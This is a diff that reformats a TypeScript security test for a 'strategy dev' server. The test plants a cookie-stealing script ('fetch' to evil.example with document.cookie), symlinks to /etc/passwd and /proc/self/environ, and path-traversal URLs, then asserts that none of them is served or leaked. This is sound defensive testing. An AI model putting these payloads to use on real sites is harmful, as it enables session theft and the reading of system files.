@@ -34,7 +34,10 @@ function listFiles(dir: string): string[] {
 }
 
 /** A raw GET, so the Host header can be anything (fetch would set it itself). */
-function get(pathname: string, host = `127.0.0.1:${port}`): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
+function get(
+  pathname: string,
+  host = `127.0.0.1:${port}`,
+): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
   return new Promise((resolve, reject) => {
     const req = http.request({ host: '127.0.0.1', port, path: pathname, method: 'GET', headers: { host } }, (res) => {
       let body = '';
@@ -52,18 +55,21 @@ function get(pathname: string, host = `127.0.0.1:${port}`): Promise<{ status: nu
 /** The first `problems` event of the stream, read raw. */
 function firstProblems(): Promise<string> {
   return new Promise((resolve, reject) => {
-    const req = http.request({ host: '127.0.0.1', port, path: '/__events', headers: { host: `localhost:${port}` } }, (res) => {
-      let buffer = '';
-      res.setEncoding('utf8');
-      res.on('data', (c: string) => {
-        buffer += c;
-        const m = /event: problems\ndata: (.*)\n\n/.exec(buffer);
-        if (m) {
-          resolve(m[1]!);
-          req.destroy();
-        }
-      });
-    });
+    const req = http.request(
+      { host: '127.0.0.1', port, path: '/__events', headers: { host: `localhost:${port}` } },
+      (res) => {
+        let buffer = '';
+        res.setEncoding('utf8');
+        res.on('data', (c: string) => {
+          buffer += c;
+          const m = /event: problems\ndata: (.*)\n\n/.exec(buffer);
+          if (m) {
+            resolve(m[1]!);
+            req.destroy();
+          }
+        });
+      },
+    );
     req.on('error', (err) => ((err as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(err)));
     req.end();
   });
@@ -73,12 +79,18 @@ beforeAll(async () => {
   root = copyExample();
   const planted = path.join(root, '.cache/dev-site');
   fs.mkdirSync(path.join(planted, 'assets'), { recursive: true });
-  fs.writeFileSync(path.join(planted, 'planted.html'), '<!doctype html><title>x</title><script>alert("planted")</script>');
+  fs.writeFileSync(
+    path.join(planted, 'planted.html'),
+    '<!doctype html><title>x</title><script>alert("planted")</script>',
+  );
   fs.symlinkSync('/etc/passwd', path.join(planted, 'passwd'));
   fs.symlinkSync('/proc/self/environ', path.join(planted, 'environ.html'));
   fs.symlinkSync('/etc/passwd', path.join(planted, 'assets/site.css'));
   fs.mkdirSync(path.join(root, 'templates/assets'), { recursive: true });
-  fs.writeFileSync(path.join(root, 'templates/assets/dev-reload.js'), 'fetch("https://evil.example/?" + document.cookie);\n');
+  fs.writeFileSync(
+    path.join(root, 'templates/assets/dev-reload.js'),
+    'fetch("https://evil.example/?" + document.cookie);\n',
+  );
   strategyFilesBefore = listFiles(root);
   await new Promise<void>((ready) => {
     stopped = serve({
@@ -107,7 +119,15 @@ describe('strategy dev on a strategy with a planted .cache/dev-site', () => {
     expect(home.status).toBe(200);
     expect(home.body).toContain('<main id="main-content"');
     expect(home.headers['content-security-policy']).toContain("script-src 'self'");
-    for (const p of ['/planted.html', '/passwd', '/environ.html', '/.cache/dev-site/planted.html', '/.cache/dev-site/passwd', '/..%2f.cache%2fdev-site%2fpasswd', '/%2e%2e/.cache/dev-site/passwd']) {
+    for (const p of [
+      '/planted.html',
+      '/passwd',
+      '/environ.html',
+      '/.cache/dev-site/planted.html',
+      '/.cache/dev-site/passwd',
+      '/..%2f.cache%2fdev-site%2fpasswd',
+      '/%2e%2e/.cache/dev-site/passwd',
+    ]) {
       const res = await get(p);
       expect({ p, status: res.status }).toEqual({ p, status: 404 });
       expect(res.body).not.toMatch(/root:|alert\("planted"\)|PATH=/);
@@ -141,7 +161,8 @@ describe('strategy dev on a strategy with a planted .cache/dev-site', () => {
     fs.symlinkSync('/etc/hostname', path.join(root, 'templates/partials/footer.hbs'));
     const problems = await firstProblems();
     expect(problems).toContain('templates/partials/footer.hbs');
-    for (const secret of [root, fs.realpathSync(root), os.tmpdir(), os.homedir()]) expect(problems).not.toContain(secret);
+    for (const secret of [root, fs.realpathSync(root), os.tmpdir(), os.homedir()])
+      expect(problems).not.toContain(secret);
     for (const line of logs) expect(line).not.toContain(fs.realpathSync(root));
   }, 120_000);
 });
